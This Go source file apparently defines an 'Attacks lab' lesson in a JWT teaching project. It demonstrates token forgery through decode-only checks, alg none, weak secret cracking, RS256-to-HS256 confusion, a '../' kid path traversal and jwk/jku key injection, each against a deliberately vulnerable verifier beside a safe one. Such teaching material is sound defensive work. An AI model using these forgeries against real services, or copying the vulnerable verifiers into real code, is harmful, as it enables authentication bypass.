package lessons

import (
	"crypto/rsa"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"

	asym "jwtlab/lessons/07-asym"
	jwk "jwtlab/lessons/08-jwk"
	attacks "jwtlab/lessons/10-attacks"
	simplejwt "jwtlab/lessons/12-simplejwt"
	"jwtlab/server"
	"jwtlab/server/servertest"
)

// withReference runs f with a reference server started for it.
func withReference(keys *server.Keys, f func(ref *servertest.Server) error) error {
	ref, err := attacks.StartReference(keys)
	if err != nil {
		return err
	}
	defer ref.Close()
	return f(ref)
}

var lesson10 = spec{
	number: 10, slug: "10-attacks", title: "Attacks lab",
	summary: "decode-as-verify, alg none, weak secrets, RS256->HS256, kid traversal, jwk/jku injection",
	steps: []stepSpec{
		{section: "Decoding is not verifying", example: "ExampleDecodeOnly", decls: []string{"DecodeOnly", "Swap"},
			run: func(w io.Writer) error {
				return withReference(nil, func(ref *servertest.Server) error {
					stolen := attacks.Stolen(attacks.DemoKey)
					forged := attacks.Swap(stolen, attacks.Wanted())
					fmt.Fprintln(w, "stolen token: ", attacks.Outcome(attacks.Pinned(attacks.DemoKey), stolen))
					fmt.Fprintln(w, "vulnerable:   ", attacks.Outcome(attacks.DecodeOnly(), forged))
					fmt.Fprintln(w, "safe:         ", attacks.Outcome(attacks.Pinned(attacks.DemoKey), forged))
					fmt.Fprintln(w, "reference:    ", attacks.AskReference(ref.URL, forged))
					return nil
				})
			}},
		{section: "alg: none", example: "ExampleHeaderPicksAlg", decls: []string{"HeaderPicksAlg", "Pinned"},
			run: func(w io.Writer) error {
				return withReference(nil, func(ref *servertest.Server) error {
					forged := attacks.Unsigned(attacks.Wanted())
					fmt.Fprintln(w, "vulnerable:", attacks.Outcome(attacks.HeaderPicksAlg(attacks.DemoKey), forged))
					fmt.Fprintln(w, "safe:      ", attacks.Outcome(attacks.Pinned(attacks.DemoKey), forged))
					fmt.Fprintln(w, "reference: ", attacks.AskReference(ref.URL, forged))
					return nil
				})
			}},
		{section: "A weak HMAC secret", example: "ExampleCrack", decls: []string{"Crack"},
			run: func(w io.Writer) error {
				return withReference(nil, func(ref *servertest.Server) error {
					weak := []byte("your-256-bit-secret")
					secret, tries, ok := attacks.Crack(attacks.Stolen(weak), attacks.Wordlist())
					fmt.Fprintf(w, "weak key cracked: %v after %d guesses: %q\n", ok, tries, secret)
					forged := attacks.SignHS256([]byte(secret), simplejwt.Header, attacks.Wanted())
					fmt.Fprintln(w, "victim with the weak key:", attacks.Outcome(attacks.Pinned(weak), forged))
					_, tries, ok = attacks.Crack(attacks.Stolen(attacks.DemoKey), attacks.Wordlist())
					fmt.Fprintf(w, "demo key cracked: %v after %d guesses\n", ok, tries)
					fmt.Fprintln(w, "reference:", attacks.AskReference(ref.URL, forged))
					fmt.Fprintf(w, "%d bytes, below jwtlab serve -profile prod's minimum of %d: %v\n", len(weak), server.MinSecretBytes, len(weak) < server.MinSecretBytes)
					return nil
				})
			}},
		{section: "RS256 to HS256: algorithm confusion", example: "ExampleOneKeyForAll", decls: []string{"OneKeyForAll", "PinnedRS256"},
			run: func(w io.Writer) error {
				priv, _ := asym.PrivateKey(asym.VectorKey(asym.Vector("RS256")))
				der, _ := x509.MarshalPKCS8PrivateKey(priv)
				key, err := server.ParseKeyPEM(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))
				if err != nil {
					return err
				}
				keys, err := server.NewKeys(key)
				if err != nil {
					return err
				}
				return withReference(keys, func(ref *servertest.Server) error {
					pub := priv.Public().(*rsa.PublicKey)
					header := fmt.Sprintf(`{"alg":"HS256","kid":%q,"typ":"JWT"}`, key.ID)
					forged := attacks.SignHS256(attacks.PublicPEM(pub), header, attacks.Wanted())
					fmt.Fprintln(w, "vulnerable:", attacks.Outcome(attacks.OneKeyForAll(attacks.PublicPEM(pub)), forged))
					fmt.Fprintln(w, "safe:      ", attacks.Outcome(attacks.PinnedRS256(pub), forged))
					fmt.Fprintln(w, "reference: ", attacks.AskReference(ref.URL, forged))
					return nil
				})
			}},
		{section: "kid path traversal", example: "ExampleKidFromDisk", decls: []string{"KidFromDisk", "KnownKids"},
			run: func(w io.Writer) error {
				return withReference(nil, func(ref *servertest.Server) error {
					site := attacks.SiteFiles()
					robots := site["static/robots.txt"].Data
					forged := attacks.SignHS256(robots, `{"alg":"HS256","kid":"../static/robots.txt","typ":"JWT"}`, attacks.Wanted())
					fmt.Fprintln(w, "vulnerable:", attacks.Outcome(attacks.KidFromDisk(site), forged))
					fmt.Fprintln(w, "safe:      ", attacks.Outcome(attacks.KnownKids(map[string][]byte{"current": attacks.DemoKey}), forged))
					fmt.Fprintln(w, "reference: ", attacks.AskReference(ref.URL, forged))
					return nil
				})
			}},
		{section: "Keys from the token: jwk and jku", example: "ExampleKeyFromHeader", decls: []string{"KeyFromHeader", "OwnKeys"},
			run: func(w io.Writer) error {
				return withReference(nil, func(ref *servertest.Server) error {
					mine := jwk.DemoKey("attacker")
					public, _ := jwk.Public(mine)
					embedded, _ := json.Marshal(public)
					viaJWK, _ := attacks.SignEdDSA(mine, `{"alg":"EdDSA","jwk":`+string(embedded)+`}`, attacks.Wanted())
					host, err := servertest.NewHost(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
						json.NewEncoder(w).Encode(jwk.Set{Keys: []asym.JWK{public}})
					}))
					if err != nil {
						return err
					}
					defer host.Close()
					viaJKU, _ := attacks.SignEdDSA(mine, `{"alg":"EdDSA","jku":"`+host.URL+`","kid":"`+mine.Kid+`"}`, attacks.Wanted())
					fetch := func(url string) ([]byte, error) {
						resp, err := http.Get(url)
						if err != nil {
							return nil, err
						}
						defer resp.Body.Close()
						return io.ReadAll(resp.Body)
					}
					victim, _ := jwk.Public(jwk.DemoKey("victim"))
					for _, forged := range []struct{ name, token string }{{"jwk", viaJWK}, {"jku", viaJKU}} {
						fmt.Fprintf(w, "%s vulnerable: %s\n", forged.name, attacks.Outcome(attacks.KeyFromHeader(fetch), forged.token))
						fmt.Fprintf(w, "%s safe:       %s\n", forged.name, attacks.Outcome(attacks.OwnKeys(jwk.Set{Keys: []asym.JWK{victim}}), forged.token))
						fmt.Fprintf(w, "%s reference:  %s\n", forged.name, attacks.AskReference(ref.URL, forged.token))
					}
					return nil
				})
			}},
	},
}
